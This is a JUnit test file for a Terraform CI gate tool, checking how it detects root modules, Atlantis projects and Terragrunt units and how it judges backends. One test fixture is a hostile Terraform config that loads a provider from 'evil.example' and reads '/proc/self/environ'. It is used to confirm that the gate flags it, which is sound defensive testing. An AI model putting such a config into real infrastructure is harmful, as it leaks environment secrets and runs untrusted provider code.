package dev.tfgate.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tfgate.gate.CheckRequest;
import dev.tfgate.gate.Extent;
import dev.tfgate.gate.Gate;
import dev.tfgate.report.Mode;
import dev.tfgate.report.RootSummary;
import dev.tfgate.store.Stores;
import dev.tfgate.terraform.Configuration;
import dev.tfgate.trust.RunMode;
import dev.tfgate.trust.TrustLocation;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Which folders are roots in CI, where nothing names them. */
class RootsInCiTest {
  private static final String BACKEND =
      "terraform {\n  backend \"gcs\" {\n    bucket = \"b\"\n    prefix = \"p\"\n  }\n}\n";
  private static final String LIBRARY =
      "variable \"x\" {}\noutput \"x\" {\n  value = file(var.x)\n}\n";

  @TempDir Path folder;

  @BeforeEach
  void trust() throws IOException {
    write("trust/gate.yaml", "version: 1\n");
    write("checkout/svc/a/main.tf", BACKEND);
  }

  @Test
  void aFolderThatNothingCallsAndThatHasNoBackendIsNone() throws IOException {
    write("checkout/modules/spare/main.tf", LIBRARY);
    write("checkout/modules/other/main.tf", LIBRARY);
    assertThat(roots("ci")).containsExactly("svc/a");
    assertThat(flat(check("ci").out()))
        .contains("2 folders are called by nothing")
        .contains("Name those you run under 'roots:'");
    assertThat(roots("local")).containsExactly("modules/other", "modules/spare", "svc/a");
    write("trust/gate.yaml", "version: 1\nroots: [\"**\"]\n");
    assertThat(roots("ci")).hasSize(3);
  }

  @Test
  void whatShowsThatTerraformIsRunThereMakesIt() throws IOException {
    write("checkout/m/lock/main.tf", LIBRARY);
    write("checkout/m/lock/.terraform.lock.hcl", "");
    write("checkout/m/vars/main.tf", LIBRARY);
    write("checkout/m/vars/x.tfvars", "x = \"main.tf\"\n");
    write("checkout/m/provider/main.tf", "provider \"random\" {\n  x = 1\n}\n");
    assertThat(roots("ci")).containsExactly("m/lock", "m/provider", "m/vars", "svc/a");
  }

  @Test
  void whereNothingShowsItAllAre() throws IOException {
    write("checkout/svc/a/main.tf", LIBRARY);
    write("checkout/svc/b/main.tf", LIBRARY);
    assertThat(roots("ci")).containsExactly("svc/a", "svc/b");
  }

  @Test
  void whatIsCalledAndConfiguresItsProviderIsNone() throws IOException {
    write("checkout/svc/a/main.tf", BACKEND + "module \"m\" {\n  source = \"../../m\"\n}\n");
    write("checkout/m/main.tf", "provider \"random\" {\n  x = 1\n}\n");
    assertThat(roots("ci")).containsExactly("svc/a");
    assertThat(roots("local")).containsExactly("svc/a");
  }

  @Test
  void whatOthersWroteIsNoneButWithABackend() throws IOException {
    String provider = "provider \"random\" {\n  x = 1\n}\n";
    write("checkout/vendor/x/examples/main.tf", provider);
    write("checkout/libs/sub/examples/main.tf", provider);
    write("checkout/third_party/live/main.tf", BACKEND);
    write(
        "checkout/.gitmodules",
        "[submodule \"sub\"]\n\tpath = libs/sub\n\turl = https://example.com/sub.git\n");
    assertThat(roots("ci")).containsExactly("svc/a", "third_party/live");
  }

  @Test
  void aRootThatHidesItselfStillLoadsNoProviderAndReadsNoFileOfTheMachine() throws IOException {
    write(
        "checkout/svc/b/main.tf",
        """
        terraform {
          required_providers {
            evil = { source = "evil.example/x/evil" }
          }
        }
        resource "evil_thing" "x" {}
        output "x" {
          value = file("/proc/self/environ")
        }
        """);
    assertThat(roots("ci")).containsExactly("svc/a");
    assertThat(check("ci").out()).contains("provider-not-pinned", "file-outside-checkout");
  }

  @Test
  void whereTerraformIsAboutToRunIsARootUnlessItIsLeftOut() throws IOException {
    write("checkout/modules/spare/main.tf", LIBRARY);
    assertThat(running("modules/spare")).containsExactly("modules/spare", "svc/a");
    write("trust/gate.yaml", "version: 1\nroots: [\"svc/*\"]\n");
    assertThat(running("modules/spare")).containsExactly("svc/a");
    write("trust/gate.yaml", "version: 1\nroots: [\"!modules/**\"]\n");
    assertThat(running("modules/spare")).containsExactly("svc/a");
  }

  private List<String> running(String root) {
    try (Gate.Outcome outcome =
        Gate.check(
            new CheckRequest(
                "0",
                folder.resolve("checkout"),
                new RunMode(Mode.CI, "the test says so"),
                new TrustLocation(folder.resolve("trust"), "the test"),
                Stores.offline(),
                null,
                LocalDate.of(2027, 1, 1),
                Extent.EVERYTHING,
                "",
                1,
                Map.of(),
                root,
                Configuration.TESTS,
                null,
                true))) {
      return outcome.report().roots().stream().map(RootSummary::path).toList();
    }
  }

  @Test
  void projectsOfAtlantisAreRoots() throws IOException {
    write("checkout/m/a/main.tf", LIBRARY);
    write("checkout/m/b/main.tf", LIBRARY);
    write("checkout/atlantis.yaml", "version: 3\nprojects:\n- name: a\n  dir: ./m/a/\n");
    assertThat(roots("ci")).containsExactly("m/a", "svc/a");
  }

  @Test
  void whatTerragruntRunsIsARootAndItsStateIsJudged() throws IOException {
    write("checkout/modules/run/main.tf", LIBRARY);
    write("checkout/modules/parent/run2/main.tf", LIBRARY);
    write("checkout/modules/spare/main.tf", LIBRARY);
    write(
        "checkout/live/root.hcl",
        """
        remote_state {
          backend = "gcs"
          config = {
            bucket = "b-${local.x}"
            prefix = "${path_relative_to_include()}/state"
          }
        }
        """);
    write("checkout/live/a/terragrunt.hcl", "terraform {\n  source = \"../../modules//run\"\n}\n");
    write(
        "checkout/live/b/terragrunt.hcl",
        "terraform {\n  source = \"${get_repo_root()}/modules/parent//run2\"\n}\n");
    assertThat(roots("ci")).containsExactly("modules/parent/run2", "modules/run", "svc/a");
    assertThat(check("ci").out()).contains("backend-argument", "remote_state, in 'live/a'");
    write(
        "trust/gate.yaml",
        "version: 1\nbackends: {allow: [{type: gcs, arguments: {bucket: \"b*\", prefix: \"*/state\"}}, {type: gcs, arguments: {bucket: b, prefix: p}}]}\n");
    assertThat(check("ci").out()).doesNotContain("backend-argument");
    write(
        "checkout/live/c/terragrunt.hcl",
        "terraform {\n  source = \"git::https://example.com/x.git//modules/spare?ref=${local.v}\"\n}\n");
    assertThat(flat(check("ci").out()))
        .contains("1 unit of Terragrunt runs another revision or repository")
        .contains("such as live/c.");
    assertThat(flat(check("ci", "-v").err()))
        .contains("live/c runs 'git::https://example.com/x.git");
    assertThat(roots("ci")).contains("modules/spare");
    write("checkout/modules/other/main.tf", LIBRARY);
    assertThat(roots("ci")).doesNotContain("modules/other");
    write("checkout/live/d/terragrunt.hcl", "terraform {\n  source = local.source\n}\n");
    assertThat(roots("ci")).contains("modules/other");
    assertThat(flat(check("ci").out())).contains("what 1 unit of Terragrunt runs");
  }

  private static final Pattern ROOT =
      Pattern.compile("\"path\":\"([^\"]*)\",\"(program|providers)");

  private List<String> roots(String mode) {
    String json = check(mode, "--format", "json").out().replaceAll("\\s*([:,{}])\\s*", "$1");
    return ROOT.matcher(json.substring(json.indexOf("\"roots\":[")))
        .results()
        .map(match -> match.group(1))
        .toList();
  }

  private CommandRun.Result check(String mode, String... more) {
    String[] arguments = new String[6 + more.length];
    String[] first = {
      "check",
      folder.resolve("checkout").toString(),
      "--mode",
      mode,
      "--trust",
      folder.resolve("trust").toString()
    };
    System.arraycopy(first, 0, arguments, 0, 6);
    System.arraycopy(more, 0, arguments, 6, more.length);
    return new CommandRun(Map.of("PATH", System.getenv("PATH")), folder, "").run(arguments);
  }

  private static String flat(String text) {
    return text.replaceAll("\\s+", " ");
  }

  private void write(String path, String content) throws IOException {
    Path file = folder.resolve(path);
    Files.createDirectories(file.getParent());
    Files.writeString(file, content);
  }
}
